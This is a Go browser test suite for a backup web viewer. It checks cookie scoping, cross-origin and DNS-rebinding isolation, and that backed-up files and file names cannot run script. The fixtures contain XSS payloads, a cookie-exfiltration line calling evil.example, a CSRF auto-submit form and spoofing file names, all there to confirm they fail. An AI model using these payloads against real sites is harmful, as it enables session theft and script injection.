package browser

import (
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
)

// other is another server on this machine, as another user or a web site may have one. It keeps what it is sent.
type other struct {
	address string
	mu      sync.Mutex
	sent    []string // request lines and cookies
	page    string
}

func newOther(t *testing.T, page string) *other {
	t.Helper()
	o := &other{page: page}
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	o.address = l.Addr().String()
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		o.mu.Lock()
		o.sent = append(o.sent, r.URL.String()+" "+r.Header.Get("Cookie"))
		o.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, o.page)
	})}
	go server.Serve(l)
	t.Cleanup(func() { server.Close() })
	return o
}

func (o *other) got() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return strings.Join(o.sent, "\n")
}

// TestSignInLeavesNoCodeInTheAddress: after a link, in the bar, in the history and in what is sent there is no code.
func TestSignInLeavesNoCodeInTheAddress(t *testing.T) {
	p := story(t)
	link := p.serve()
	_, code, _ := strings.Cut(link, "/in/")
	page := filepath.Join(p.dir, "link.html") // as the command opens it
	p.must(os.WriteFile(page, []byte(`<!doctype html><meta name="referrer" content="no-referrer">`+
		`<meta http-equiv="refresh" content="0; url=`+link+`">`), 0o600))
	b := open(t, 1280, 900)
	b.base, _, _ = strings.Cut(link, "/in/")
	b.do(chromedp.Navigate("file://" + page))
	b.until(`document.querySelector("#verdict")`)
	if at := eval[string](b, "location.href"); at != b.base+"/" {
		t.Errorf("it ended at %s", at)
	}
	entries, err := chromedp.Run(b.ctx, chromedp.NavigationEntries())
	p.must(err)
	for _, e := range entries.Entries[1:] {
		if strings.Contains(e.URL, code) && e.URL != link {
			t.Errorf("in the history: %s", e.URL)
		}
	}
	b.mu.Lock()
	for _, r := range b.sent {
		for name, v := range r.Headers {
			if strings.Contains(fmt.Sprint(v), code) {
				t.Errorf("%s: %s: %v", r.URL, name, v)
			}
		}
	}
	b.mu.Unlock()
	b.do(chromedp.Navigate(link))                 // once more
	b.until(`document.querySelector("#verdict")`) // who is signed in goes on
	fresh := open(t, 1280, 900)
	fresh.do(chromedp.Navigate(link))
	fresh.until(`document.body.innerText.includes("Please sign in")`)
	b.quiet()
}

// TestCookieIsNotSentToAnotherPort: another server on this machine is sent nothing of ours, whatever it leads to.
func TestCookieIsNotSentToAnotherPort(t *testing.T) {
	p := story(t)
	o := newOther(t, `<!doctype html><title>other</title><img src="/guess/x.png">`)
	b := open(t, 1280, 900)
	b.signIn(p.serve())
	for _, at := range []string{"/", "/aaaaaaaaaaaa/", "/s/latest/"} {
		b.do(chromedp.Navigate("http://" + o.address + at))
	}
	if got := o.got(); strings.Contains(got, "snap") || !strings.Contains(got, "/aaaaaaaaaaaa/") {
		t.Errorf("it was sent\n%s", got)
	}
	b.visit("/")
	b.until(`document.querySelector("#verdict")`) // and ours still is
}

// TestOtherOriginReadsNothing: a page at another port, which is the same site, can read and do nothing here.
func TestOtherOriginReadsNothing(t *testing.T) {
	p := story(t)
	o := newOther(t, `<!doctype html><title>other</title>`)
	b := open(t, 1280, 900)
	b.signIn(p.serve())
	b.do(chromedp.Navigate("http://" + o.address + "/"))
	for _, way := range []string{
		`fetch(%q, {credentials: "include"}).then(r => "read " + r.status, e => "refused")`,
		`fetch(%q, {credentials: "include", mode: "no-cors"})
			.then(r => r.status ? "read " + r.status : "refused", e => "refused")`,
		`new Promise(done => { const i = new Image(); i.onload = () => done("read"); i.onerror = () => done("refused");
			i.src = %q; })`,
		`new Promise(done => { const s = document.createElement("script"); s.onload = () => done("ran");
			s.onerror = () => done("refused"); s.src = %q; document.head.append(s); })`,
		`new Promise(done => { const f = document.createElement("iframe");
			f.onload = () => {
				try { done(f.contentDocument && f.contentDocument.body.innerText.includes("Backed") ? "read" : "refused"); }
				catch (e) { done("refused"); } };
			f.src = %q; document.body.append(f); })`,
		`new Promise(done => { const w = window.open(%q);
			setTimeout(() => { try { done(w.document.body.innerText ? "read" : "refused"); }
				catch (e) { done("refused"); } }, 300); })`,
	} {
		for _, at := range []string{"/", "/api/list", "/raw/latest/docs/new.txt", "/static/x/app.js"} {
			if got := eval[string](b, fmt.Sprintf(way, b.base+at)); got != "refused" {
				t.Errorf("%s: %s: %s", at, way[:30], got)
			}
		}
	}
	got := eval[string](b,
		fmt.Sprintf(`fetch(%q, {method: "POST", credentials: "include", mode: "no-cors",
			body: new URLSearchParams("to=dark")}).then(r => "sent", e => "refused")`, b.base+"/theme"))
	b.visit("/")
	if theme := eval[string](b, `document.documentElement.dataset.theme ?? ""`); theme != "" {
		t.Errorf("another origin changed the theme: %s, %q", got, theme)
	}
}

// TestReboundNameReadsNothing: a name of somebody else's that leads to this machine is the same origin as itself, and
// gets nothing all the same.
func TestReboundNameReadsNothing(t *testing.T) {
	p := story(t)
	b := open(t, 1280, 900)
	b.signIn(p.serve())
	u, _ := url.Parse(b.base)
	rebound := "http://rebound.example:" + u.Port()
	b.do(chromedp.Navigate(rebound + "/"))
	for _, at := range []string{"/", u.Path + "/", u.Path + "/api/list", "/hello/x"} {
		got := eval[string](b,
			fmt.Sprintf(`fetch(%q, {credentials: "include"}).then(async r => r.status + " " + await r.text())`, at))
		if !strings.HasPrefix(got, "421 misdirected") {
			t.Errorf("%s: %s", at, got)
		}
		got = eval[string](b, fmt.Sprintf(`fetch(%q, {method: "POST", body: "x"}).then(async r => r.status + "")`, at))
		if got != "421" {
			t.Errorf("POST %s: %s", at, got)
		}
	}
}

// hostilePlace has files that want to run, and names that want to be markup.
func hostilePlace(t *testing.T) *place {
	p := newPlace(t)
	const run = `document.title="RAN";localStorage.ran=1;fetch("http://evil.example/"+document.cookie)`
	p.write("evil.html",
		`<!doctype html><script>`+run+`</script><img src=x onerror='`+run+`'><script src="evil.js"></script>`+
			`<meta http-equiv="refresh" content="0;url=http://evil.example/">`+
			`<form action="/theme" method=post><input name=to value=dark></form><script>document.forms[0].submit()</script>`)
	p.write("evil.js", run)
	p.write("evil.mjs", "export default 1;"+run)
	p.write("evil.css", "body{display:none}")
	p.write("evil.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload='`+run+`'><script>`+run+
		`</script><rect width="90" height="60"/></svg>`)
	p.write("evil.xml", `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>`+run+`</h:script></x>`)
	p.write("evil.txt", `<script>`+run+`</script>`)
	p.write("evil.png", `<script>`+run+`</script>`)
	for _, n := range []string{"<img src=x onerror=" + strings.ReplaceAll(run[:20], "/", "_") + ">",
		`"><script>document.title="RAN"<`, "javascript:document.title='RAN'",
		`' onfocus='document.title="RAN"' autofocus='`, "{{.}}", "\u202egnp.exe", "new\nline", "bad\xff",
		"</title><script>document.title='RAN'<"} {
		p.write("names/"+strings.ReplaceAll(n, "/", "_"), n)
	}
	p.backup()
	p.write("evil.txt", `<script>`+run+`</script> changed`)
	p.must(os.Remove(filepath.Join(p.src, "names", "new\nline")))
	p.backup()
	return p
}

// TestBackedUpPageRunsNothing: a page, a picture or a text of a backup, opened in any way, runs nothing and reaches
// nobody.
func TestBackedUpPageRunsNothing(t *testing.T) {
	p := hostilePlace(t)
	b := open(t, 1280, 900)
	b.signIn(p.serve())
	for _, name := range []string{"evil.txt", "evil.png", "evil.html", "evil.svg", "evil.xml", "evil.js"} {
		// opened as a page: shown without rights, or saved
		_ = chromedp.Do(b.ctx, chromedp.Navigate(b.base+"/raw/latest/"+name)) // what is saved is an error here
		if title := eval[string](b, "document.title"); title == "RAN" {
			t.Errorf("%s ran as a page", name)
		}
		b.visit("/f/" + name)
		b.until(`document.readyState === "complete"`)
		if title := eval[string](b, "document.title"); !strings.Contains(title, name) {
			t.Errorf("the page of %s is called %q", name, title)
		}
		for _, way := range []string{
			`new Promise(done => { const f = document.createElement("iframe"); f.onload = f.onerror = () => done(0);
				f.src = %q; document.body.append(f); setTimeout(() => done(0), 300) })`,
			`new Promise(done => { const f = document.createElement("object"); f.onload = f.onerror = () => done(0);
				f.data = %q; document.body.append(f); setTimeout(() => done(0), 300) })`,
			`new Promise(done => { const f = document.createElement("embed"); f.onload = f.onerror = () => done(0);
				f.src = %q; document.body.append(f); setTimeout(() => done(0), 300) })`,
			`new Promise(done => { const i = new Image(); i.onload = i.onerror = () => done(0); i.src = %q })`,
		} {
			eval[int](b, fmt.Sprintf(way, b.base+"/raw/latest/"+name)+".catch(() => 0)") // the page itself may refuse
		}
		if ran := eval[bool](b, `"ran" in localStorage || document.title === "RAN"`); ran {
			t.Errorf("%s ran", name)
		}
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	for _, f := range b.foreign {
		t.Errorf("another host was asked: %s", f)
	}
}

// TestBackedUpScriptIsNoScript: even a script of ours cannot load one from a backup.
func TestBackedUpScriptIsNoScript(t *testing.T) {
	p := hostilePlace(t)
	b := open(t, 1280, 900)
	b.signIn(p.serve())
	for _, name := range []string{"evil.js", "evil.mjs", "evil.txt"} {
		at := b.base + "/raw/latest/" + name
		for _, way := range []string{
			`new Promise(done => { const s = document.createElement("script"); s.onload = () => done("ran");
				s.onerror = () => done("refused"); try { s.src = %q; document.head.append(s); } catch (e) { done("refused") } })`,
			`import(%q).then(() => "ran", () => "refused")`,
			`new Promise(done => { try { const w = new Worker(%q); w.onerror = () => done("refused");
				w.onmessage = () => done("ran"); setTimeout(() => done("refused"), 300) } catch (e) { done("refused") } })`,
			`navigator.serviceWorker.register(%q).then(() => "ran", () => "refused")`,
		} {
			if got := eval[string](b, fmt.Sprintf(way, at)); got != "refused" {
				t.Errorf("%s: %s: %s", name, way[:40], got)
			}
		}
	}
	got := eval[string](b,
		fmt.Sprintf(`new Promise(done => { const l = document.createElement("link"); l.rel = "stylesheet";
			l.onload = () => done("loaded"); l.onerror = () => done("refused"); l.href = %q; document.head.append(l) })`,
			b.base+"/raw/latest/evil.css"))
	if got != "refused" {
		t.Errorf("a style sheet: %s", got)
	}
	if ran := eval[bool](b, `"ran" in localStorage || document.title === "RAN"`); ran {
		t.Error("it ran")
	}
}

// TestHostileNamesRunNothing: on every page that shows them, a name is text.
func TestHostileNamesRunNothing(t *testing.T) {
	p := hostilePlace(t)
	b := open(t, 1280, 900)
	b.signIn(p.serve())
	pages := []string{"/", "/snapshots", "/s/latest/names", "/s/oldest/names", "/find?q=*", "/find?q=*&deleted=1",
		"/find?q=%3Cscript%3E"}
	b.visit("/s/oldest/names")
	for _, at := range eval[[]string](b, `[...document.querySelectorAll(".files .name a")].map(a => a.href)`) {
		pages = append(pages, strings.TrimPrefix(at, b.base))
	}
	if len(pages) < 12 {
		t.Fatalf("%v", pages)
	}
	for _, at := range pages {
		b.visit(at)
		b.until(`document.readyState === "complete" && document.querySelector("h1")`)
		if ran := eval[bool](b,
			`"ran" in localStorage || document.title === "RAN" ||
				!!document.querySelector("main img[onerror], [onfocus], main script:not([type='application/json'])")`); ran {
			t.Errorf("%s: a name ran", at)
		}
	}
	b.quiet()
}

// TestNoViolationOnAnyPage: the policy forbids nothing that our own pages do, in the parts that come later too.
func TestNoViolationOnAnyPage(t *testing.T) {
	p := story(t)
	b := open(t, 1280, 900)
	b.signIn(p.serve())
	b.looks()
	for _, at := range well {
		b.visit(at)
		b.until(`document.readyState === "complete"`)
	}
	b.visit("/s/latest/docs")
	b.until(`document.querySelector("#slider")`)
	eval[bool](b, `(() => { const s = document.querySelector("#slider"); s.value = 0;
		s.dispatchEvent(new Event("input", {bubbles: true})); return true })()`)
	b.until(`location.pathname.includes(JSON.parse(document.querySelector("#steps").textContent).names[0])`)
	b.quiet()
}
